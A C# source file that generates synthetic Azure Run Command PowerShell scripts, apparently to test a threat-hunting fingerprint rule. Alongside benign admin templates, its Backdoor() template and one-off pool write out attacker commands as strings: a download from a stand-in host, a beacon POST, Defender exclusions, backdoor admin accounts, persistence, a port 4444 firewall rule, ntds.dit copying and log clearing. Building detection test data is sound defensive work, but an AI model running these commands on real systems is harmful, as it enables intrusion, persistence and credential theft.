using System;
using System.Collections.Generic;
using System.Globalization;
using System.Linq;
using System.Text;

namespace RunCommandHunt.EvidenceGenerator
{
    /// <summary>A script body as Run Command ships it: its text (so FileSize and SHA256 are real) and the cmdlets
    /// MDE records, one PowerShellCommand event each, in the order they run.</summary>
    internal sealed class ScriptBody
    {
        public ScriptBody(string templateName, string text, IReadOnlyList<string> commands)
        {
            if (commands.Count == 0) throw new ArgumentException("A Run Command script must run at least one cmdlet.", nameof(commands));
            TemplateName = templateName;
            Text = text;
            Commands = commands;
            FileSize = Encoding.UTF8.GetByteCount(text);
            Sha256 = Hashes.Sha256Hex(text);
            Sha1 = Hashes.Sha1Hex(text);
            Md5 = Hashes.Md5Hex(text);
            Fingerprint = ScriptFingerprint.Of(commands);
        }

        public string TemplateName { get; }
        public string Text { get; }
        public IReadOnlyList<string> Commands { get; }
        public long FileSize { get; }
        public string Sha256 { get; }
        public string Sha1 { get; }
        public string Md5 { get; }
        public string Fingerprint { get; }
    }

    /// <summary>The analytic rule's fingerprint: SHA-256 (lower-case hex) of the compact JSON array of the
    /// commands upper-cased (invariant) and sorted ordinally, e.g. ["GET-PROCESS","WRITE-OUTPUT"].</summary>
    internal static class ScriptFingerprint
    {
        public static string Json(IEnumerable<string> commands)
        {
            var upper = commands.Select(c => c.ToUpperInvariant()).ToList();
            upper.Sort(StringComparer.Ordinal);
            return JsonText.Array(upper);
        }

        public static string Of(IEnumerable<string> commands) => Hashes.Sha256Hex(Json(commands));

        /// <summary>What the rule's description promises (and its TempFingerprintString builds): the list JSON
        /// followed by the file size.</summary>
        public static string WithSize(IEnumerable<string> commands, long fileSize) =>
            Hashes.Sha256Hex(Json(commands) + fileSize.ToString(CultureInfo.InvariantCulture));
    }

    /// <summary>A reusable script: lines with an optional {0} that varies between runs (changes the size, not
    /// the cmdlets), and the cmdlets it runs.</summary>
    internal sealed class ScriptTemplate
    {
        public ScriptTemplate(string name, string[] lines, string[] commands, string[] variants)
        {
            Name = name; Lines = lines; Commands = commands; Variants = variants;
        }

        public string Name { get; }
        public string[] Lines { get; }
        public string[] Commands { get; }
        public string[] Variants { get; }

        public ScriptBody Body(int variant)
        {
            string v = Variants.Length == 0 ? "" : Variants[variant % Variants.Length];
            var text = string.Join("\r\n", Lines.Select(l => l.Replace("{0}", v))) + "\r\n";
            return new ScriptBody(Name, text, Commands);
        }

        public ScriptBody Body(Prng prng) => Body(Variants.Length == 0 ? 0 : prng.Next(Variants.Length));
    }

    internal static class ScriptCatalog
    {
        public static readonly ScriptTemplate Inventory = new ScriptTemplate("inventory", new[]
        {
            "$ErrorActionPreference = 'Stop'",
            "Get-Process | Sort-Object CPU -Descending | Select-Object -First {0} Name, Id, CPU, WS",
            "Get-Service | Where-Object Status -eq 'Running' | Select-Object Name, DisplayName, StartType",
            "Write-Output \"Inventory collected on $env:COMPUTERNAME\"",
        }, new[] { "Get-Process", "Sort-Object", "Select-Object", "Get-Service", "Where-Object", "Select-Object", "Write-Output" },
        new[] { "10", "100", "5" });

        public static readonly ScriptTemplate DiskCheck = new ScriptTemplate("disk-check", new[]
        {
            "Get-PSDrive -PSProvider FileSystem | Select-Object Name, @{n='UsedGB';e={[math]::Round($_.Used/1GB,1)}}, @{n='FreeGB';e={[math]::Round($_.Free/1GB,1)}}",
            "Get-Volume | Where-Object DriveLetter | Format-Table DriveLetter, FileSystemLabel, SizeRemaining, Size -AutoSize",
            "Write-Output 'Disk check complete{0}'",
        }, new[] { "Get-PSDrive", "Select-Object", "Get-Volume", "Where-Object", "Format-Table", "Write-Output" },
        new[] { "", ".", " (scheduled)" });

        public static readonly ScriptTemplate PatchStatus = new ScriptTemplate("patch-status", new[]
        {
            "Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First {0} HotFixID, InstalledOn",
            "Get-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion' | Select-Object ProductName, DisplayVersion, CurrentBuild, UBR",
            "Write-Output \"Last boot: $((Get-CimInstance Win32_OperatingSystem).LastBootUpTime)\"",
        }, new[] { "Get-HotFix", "Sort-Object", "Select-Object", "Get-ItemProperty", "Select-Object", "Get-CimInstance", "Write-Output" },
        new[] { "5", "10" });

        public static readonly ScriptTemplate Network = new ScriptTemplate("network-check", new[]
        {
            "Get-NetIPConfiguration | Format-List InterfaceAlias, IPv4Address, IPv4DefaultGateway, DNSServer",
            "Test-NetConnection -ComputerName {0} -Port 443 | Select-Object ComputerName, TcpTestSucceeded",
            "Resolve-DnsName {0} -Type A",
        }, new[] { "Get-NetIPConfiguration", "Format-List", "Test-NetConnection", "Select-Object", "Resolve-DnsName" },
        new[] { "login.microsoftonline.com", "management.azure.com", "contoso.blob.core.windows.net" });

        public static readonly ScriptTemplate RestartService = new ScriptTemplate("restart-service", new[]
        {
            "Restart-Service -Name {0} -Force",
            "Start-Sleep -Seconds 5",
            "Get-Service -Name {0} | Select-Object Name, Status",
        }, new[] { "Restart-Service", "Start-Sleep", "Get-Service", "Select-Object" },
        new[] { "W3SVC", "Spooler", "MSSQLSERVER", "WinRM" });

        public static readonly ScriptTemplate EventLog = new ScriptTemplate("eventlog-errors", new[]
        {
            "Get-WinEvent -LogName System -MaxEvents {0} | Where-Object LevelDisplayName -eq 'Error' | Format-List TimeCreated, Id, ProviderName, Message",
        }, new[] { "Get-WinEvent", "Where-Object", "Format-List" },
        new[] { "50", "100", "200" });

        public static readonly ScriptTemplate AgentHealth = new ScriptTemplate("agent-health", new[]
        {
            "Get-Service -Name WindowsAzureGuestAgent, Sense, AzureMonitorAgent | Select-Object Name, Status",
            "Get-Content 'C:\\WindowsAzure\\Logs\\WaAppAgent.log' -Tail {0}",
            "Write-Output 'agent health ok'",
        }, new[] { "Get-Service", "Select-Object", "Get-Content", "Write-Output" },
        new[] { "50", "100" });

        /// <summary>The bundled sample's one unique script: download, Defender exclusion, backdoor account.</summary>
        public static ScriptBody Backdoor() => new ScriptBody("backdoor-account", string.Join("\r\n", new[]
        {
            "$u = 'https://cdn-update.example.net/payload/update.ps1'",
            "Invoke-WebRequest -Uri $u -OutFile \"$env:TEMP\\update.ps1\" -UseBasicParsing",
            "Add-MpPreference -ExclusionPath 'C:\\ProgramData\\Microsoft\\Crypto\\Updates'",
            "$pw = ConvertTo-SecureString 'Winter2025!Az' -AsPlainText -Force",
            "New-LocalUser -Name 'svc_backup' -Password $pw -PasswordNeverExpires",
            "Add-LocalGroupMember -Group 'Administrators' -Member 'svc_backup'",
        }) + "\r\n", new[] { "Invoke-WebRequest", "Add-MpPreference", "ConvertTo-SecureString", "New-LocalUser", "Add-LocalGroupMember" });

        /// <summary>Admin scripts in the weights a busy estate runs them.</summary>
        public static readonly (ScriptTemplate Item, double Weight)[] Common =
        {
            (Inventory, 30), (DiskCheck, 20), (PatchStatus, 15), (Network, 10), (RestartService, 10), (EventLog, 8), (AgentHealth, 7),
        };

        /// <summary>Cmdlets for one-off scripts, each with a plausible line; most are what an intruder runs.</summary>
        private static readonly (string Cmdlet, string Line)[] RarePool =
        {
            ("Invoke-WebRequest", "Invoke-WebRequest -Uri 'https://files.example.org/t/{r}.zip' -OutFile C:\\Windows\\Temp\\{r}.zip -UseBasicParsing"),
            ("Invoke-RestMethod", "Invoke-RestMethod -Uri 'https://api.example.com/beacon/{r}' -Method Post -Body $env:COMPUTERNAME"),
            ("Start-BitsTransfer", "Start-BitsTransfer -Source 'https://cdn.example.net/{r}.exe' -Destination C:\\ProgramData\\{r}.exe"),
            ("Expand-Archive", "Expand-Archive -Path C:\\Windows\\Temp\\{r}.zip -DestinationPath C:\\ProgramData\\{r} -Force"),
            ("Add-MpPreference", "Add-MpPreference -ExclusionPath 'C:\\ProgramData\\{r}'"),
            ("Set-MpPreference", "Set-MpPreference -DisableRealtimeMonitoring $true"),
            ("New-LocalUser", "New-LocalUser -Name 'svc_{r}' -NoPassword"),
            ("Add-LocalGroupMember", "Add-LocalGroupMember -Group 'Administrators' -Member 'svc_{r}'"),
            ("Get-LocalUser", "Get-LocalUser | Select-Object Name, Enabled, LastLogon"),
            ("Get-LocalGroupMember", "Get-LocalGroupMember -Group 'Administrators'"),
            ("New-ItemProperty", "New-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '{r}' -Value 'C:\\ProgramData\\{r}.exe' -Force"),
            ("Set-ItemProperty", "Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server' -Name fDenyTSConnections -Value 0"),
            ("Register-ScheduledTask", "Register-ScheduledTask -TaskName '{r}' -Action (New-ScheduledTaskAction -Execute 'C:\\ProgramData\\{r}.exe') -Trigger (New-ScheduledTaskTrigger -AtStartup) -User SYSTEM"),
            ("Start-Process", "Start-Process -FilePath C:\\ProgramData\\{r}.exe -WindowStyle Hidden"),
            ("Stop-Service", "Stop-Service -Name {r} -Force"),
            ("New-NetFirewallRule", "New-NetFirewallRule -DisplayName 'Allow {r}' -Direction Inbound -LocalPort 4444 -Protocol TCP -Action Allow"),
            ("Get-CimInstance", "Get-CimInstance Win32_ComputerSystem | Select-Object Domain, Manufacturer"),
            ("Compress-Archive", "Compress-Archive -Path C:\\Users\\*\\Documents -DestinationPath C:\\Windows\\Temp\\{r}.zip"),
            ("Remove-Item", "Remove-Item -Path C:\\Windows\\Temp\\{r}.zip -Force"),
            ("Clear-EventLog", "Clear-EventLog -LogName Security"),
            ("Get-ChildItem", "Get-ChildItem -Path C:\\Users -Recurse -Include *.kdbx, *.config -ErrorAction SilentlyContinue"),
            ("Copy-Item", "Copy-Item -Path C:\\Windows\\NTDS\\ntds.dit -Destination C:\\Windows\\Temp\\{r}.dit"),
            ("Enable-PSRemoting", "Enable-PSRemoting -Force -SkipNetworkProfileCheck"),
            ("Set-Content", "Set-Content -Path C:\\ProgramData\\{r}.txt -Value $env:COMPUTERNAME"),
        };

        /// <summary>A script with a cmdlet set no other script has; retries until the fingerprint is new.</summary>
        public static ScriptBody OneOff(Prng prng, ISet<string> usedFingerprints)
        {
            for (int attempt = 0; ; attempt++)
            {
                int count = prng.Next(3, 8);
                var picked = new List<(string Cmdlet, string Line)>();
                while (picked.Count < count)
                {
                    var c = prng.Pick(RarePool);
                    if (!picked.Contains(c)) picked.Add(c);
                }
                string r = prng.Hex(3);
                var text = string.Join("\r\n", picked.Select(p => p.Line.Replace("{r}", r))) + "\r\n";
                var body = new ScriptBody("one-off", text, picked.Select(p => p.Cmdlet).ToArray());
                if (usedFingerprints.Add(body.Fingerprint)) return body;
                if (attempt > 1000) throw new InvalidOperationException("Could not make a new one-off script.");
            }
        }
    }
}
